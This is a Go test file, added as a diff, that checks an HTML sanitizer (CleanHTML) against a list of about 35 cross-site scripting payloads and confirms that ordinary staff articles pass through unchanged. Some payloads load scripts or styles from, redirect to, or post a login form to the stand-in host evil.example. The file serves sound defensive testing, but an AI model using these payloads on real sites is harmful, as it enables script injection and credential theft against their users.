@@ -1,0 +1,65 @@
+package content_test
+
+import (
+	"strings"
+	"testing"
+
+	"larek/internal/content"
+)
+
+// attacks are ways to run a script, restyle the page or leave it out of HTML.
+var attacks = []string{
+	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
+	`<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<math><mtext><script>alert(1)</script></mtext></math>`,
+	`<p onclick="alert(1)">x</p>`, `<p ONMOUSEOVER=alert(1)>x</p>`, `<p/onclick=alert(1)>x</p>`,
+	`<a href="javascript:alert(1)">x</a>`, `<a href=" javascript:alert(1)">x</a>`, `<a href="java&#115;cript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`,
+	`<a href="java\tscript:alert(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`,
+	`<iframe src="https://evil.example"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data=x></object>`, `<embed src=x>`,
+	`<style>body{display:none}</style>`, `<p style="position:fixed;inset:0">x</p>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<base href=//evil.example>`,
+	`<meta http-equiv=refresh content="0;url=//evil.example">`, `<form action=//evil.example><input name=p><button>Войти</button></form>`,
+	`<template><script>alert(1)</script></template>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
+	`<p title="a" onclick=alert(1)>x</p>`, `<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`, `<!--><script>alert(1)</script>-->`,
+	`<video><source onerror=alert(1)></video>`, `<details open ontoggle=alert(1)>x</details>`, `<a href="//evil.example" target=_top onfocus=alert(1) autofocus>x</a>`,
+}
+
+func TestCleanHTMLLeavesNothingThatRuns(t *testing.T) {
+	t.Parallel()
+	for _, attack := range attacks {
+		got := strings.ToLower(content.CleanHTML("<p>до</p>" + attack + "<p>после</p>"))
+		for _, bad := range []string{"<script", "<svg", "<math", "<iframe", "<object", "<embed", "<style", "style=", "<link", "<base", "<meta", "<form", "<input", "<img", "<template", " on", "javascript:", "vbscript:", "data:", "<noscript", "<textarea", "<video", "<details"} {
+			if strings.Contains(got, bad) && !onlyAsText(got, bad) {
+				t.Errorf("CleanHTML(%q) = %q, which has %q", attack, got, bad)
+			}
+		}
+		if !strings.Contains(got, "<p>до</p>") {
+			t.Errorf("CleanHTML(%q) = %q, want the text before it", attack, got)
+		}
+	}
+}
+
+// onlyAsText reports whether a word is outside of every tag: there it is read,
+// not run.
+func onlyAsText(html, word string) bool {
+	for rest := html; ; {
+		_, after, found := strings.Cut(rest, "<")
+		if !found {
+			return true
+		}
+		tag, next, _ := strings.Cut(after, ">")
+		if strings.Contains("<"+tag, word) {
+			return false
+		}
+		rest = next
+	}
+}
+
+func TestCleanHTMLKeepsWhatStaffWrite(t *testing.T) {
+	t.Parallel()
+	const article = `<p>Ларёк <b>рядом</b>.</p><h2 id="a">Раздел</h2><ul><li>раз</li></ul><table><tr><td colspan="2">1</td></tr></table><p><a href="https://larek.example/ru">сюда</a>, <a href="/ru/info">туда</a>, <a href="mailto:a@b.example">письмо</a></p>`
+	if got := content.CleanHTML(article); got != article {
+		t.Errorf("CleanHTML changed an article:\ngot  %s\nwant %s", got, article)
+	}
+	if got := content.CleanHTML(content.CleanHTML(article)); got != article {
+		t.Errorf("cleaned twice: got %s, want %s", got, article)
+	}
+}
